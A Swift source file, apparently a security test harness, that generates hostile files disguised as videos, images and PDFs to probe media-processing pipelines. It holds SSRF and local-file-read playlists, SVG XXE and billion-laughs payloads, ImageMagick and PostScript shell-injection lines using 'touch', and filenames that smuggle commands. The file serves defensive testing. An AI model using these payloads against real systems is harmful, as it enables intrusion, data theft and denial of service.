/// Playlists, scripts and drawings that name other files, under the names of films and pictures.
enum HostileTexts {
    static func all(_ lure: Lure) -> [HostileFile] { playlists(lure) + drawings(lure) + odd(lure) }

    private static func playlists(_ lure: Lure) -> [HostileFile] {
        let (url, bait) = (lure.url, lure.bait)
        let head = "#EXTM3U\n#EXT-X-VERSION:6\n#EXT-X-TARGETDURATION:10\n"
        let end = "\n#EXT-X-ENDLIST\n"
        return [
            HostileFile("hls-http.mp4", "\(head)#EXTINF:10,\n\(url)\(end)"),
            HostileFile("hls-file.mp4", "\(head)#EXTINF:10,\nfile://\(bait)\(end)"),
            HostileFile("hls-path.ts", "\(head)#EXTINF:10,\n\(bait)\(end)"),
            HostileFile("hls-key.mov", "\(head)#EXT-X-KEY:METHOD=AES-128,URI=\"\(url)\"\n#EXTINF:10,\n\(bait)\(end)"),
            HostileFile("hls-map.mp4", "\(head)#EXT-X-MAP:URI=\"file://\(bait)\"\n#EXTINF:10,\n\(url)\(end)"),
            HostileFile(
                "hls-concat.mkv",
                "\(head)#EXTINF:10,\nconcat:\(url)?|file://\(bait)\(end)"
            ),
            HostileFile("hls-subfile.mp4", "\(head)#EXTINF:10,\nsubfile,,start,0,end,99,,:\(bait)\(end)"),
            HostileFile("hls-master.webm", "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n\(url)\n"),
            HostileFile("hls-behind-box.mp4", "\0\0\0\u{14}ftypisom\0\0\0\0isom\(head)#EXTINF:10,\n\(url)\(end)"),
            HostileFile("concat.mp4", "ffconcat version 1.0\nfile '\(url)'\nfile 'file://\(bait)'\n"),
            HostileFile("concat-options.avi", "ffconcat version 1.0\nfile '\(bait)'\noption safe 0\n"),
            HostileFile(
                "dash.mp4",
                "<?xml version=\"1.0\"?><MPD type=\"static\"><Period><BaseURL>\(url)</BaseURL></Period></MPD>"
            ),
            HostileFile(
                "dash-entity.mp4",
                "<!DOCTYPE a [<!ENTITY b SYSTEM \"file://\(bait)\">]><MPD><BaseURL>&b;</BaseURL></MPD>"
            ),
            HostileFile(
                "session.mp4",
                "v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\nc=IN IP4 127.0.0.1\r\nm=video 9 RTP/AVP 96\r\n"
            ),
            HostileFile("list.mp3", "[playlist]\nFile1=\(url)\nFile2=\(bait)\nNumberOfEntries=2\n"),
            HostileFile("list.wma", "<asx version=\"3.0\"><entry><ref href=\"\(url)\"/></entry></asx>"),
            HostileFile("list.mov", "SMILtext<smil><body><video src=\"\(url)\"/></body></smil>"),
            HostileFile("stream.mov", "RTSPtextRTSP://127.0.0.1/canary\n"),
        ]
    }

    private static func drawings(_ lure: Lure) -> [HostileFile] {
        let (url, bait) = (lure.url, lure.bait)
        let svg =
            "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:x=\"http://www.w3.org/1999/xlink\" width=\"9\" height=\"9\">"
        return [
            HostileFile("image.svg", "\(svg)<image x:href=\"\(url)\" width=\"9\" height=\"9\"/></svg>"),
            HostileFile("file.jpg", "\(svg)<image x:href=\"file://\(bait)\" width=\"9\" height=\"9\"/></svg>"),
            HostileFile("style.png", "<?xml-stylesheet href=\"\(url)\"?>\(svg)<style>@import '\(url)';</style></svg>"),
            HostileFile("script.svg", "\(svg)<script x:href=\"\(url)\"/><script>fetch('\(url)')</script></svg>"),
            HostileFile(
                "entity.png",
                "<!DOCTYPE svg [<!ENTITY a SYSTEM \"file://\(bait)\">]>\(svg)<text>&a;</text></svg>"
            ),
            HostileFile(
                "parameter-entity.svg",
                "<!DOCTYPE svg [<!ENTITY % a SYSTEM \"\(url)\"> %a;]>\(svg)</svg>"
            ),
            HostileFile("laughs.svg", laughs(svg)),
            HostileFile(
                "include.svg",
                "\(svg)<i:include xmlns:i=\"http://www.w3.org/2001/XInclude\" href=\"file://\(bait)\" parse=\"text\"/></svg>"
            ),
            HostileFile(
                "magick.jpg",
                "push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 0,0 '\(url)'\npop graphic-context"
            ),
            HostileFile(
                "magick-shell.png",
                "push graphic-context\nfill 'url(\(url)\"|touch \(bait)\")'\npop graphic-context"
            ),
            HostileFile("magick-script.jpg", "<image><read filename=\"\(url)\"/><write filename=\"\(bait)\"/></image>"),
            HostileFile("label.txt", "label:@\(bait)"),
            HostileFile("postscript.jpg", "%!PS\n(\(bait)) (r) file 99 string readstring pop show\nshowpage\n"),
            HostileFile("postscript-pipe.png", "%!PS\n(%pipe%touch \(bait)) (w) file\nshowpage\n"),
            HostileFile("encapsulated.tif", "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(\(bait)) run\n"),
            HostileFile("slide.png", "[GENERAL]\nSLIDE_ID=1\n[HIERARCHICAL]\nINDEXFILE=\(bait)\n"),
        ]
    }

    /// Ten entities, each ten times the one before.
    private static func laughs(_ svg: String) -> String {
        let entities = (1...9).map { number in
            "<!ENTITY l\(number) \"" + String(repeating: "&l\(number - 1);", count: 10) + "\">"
        }
        return "<!DOCTYPE svg [<!ENTITY l0 \"ha\">\(entities.joined())]>\(svg)<text>&l9;</text></svg>"
    }

    private static func odd(_ lure: Lure) -> [HostileFile] {
        [
            HostileFile("page.pdf", "<html><body><img src=\"\(lure.url)\"></body></html>"),
            HostileFile("%03d.mp4", "\(lure.bait)\n"),
            HostileFile("-i.png", "P6\n60000 60000\n255\n"),
            HostileFile("a.jpg[page=9].jpg", "P3\n1 1\n255\n0 0 0\n"),
            HostileFile("$(touch pwned);'.pdf", "%PDF-1.4\n"),
            HostileFile("line\nbreak.mp4", "GIF89a\u{1}\0\u{1}\0"),
            HostileFile("radiance.png", "#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 99999 +X 99999\n"),
            HostileFile("floats.png", "PF\n99999 99999\n-1.0\n"),
        ]
    }
}
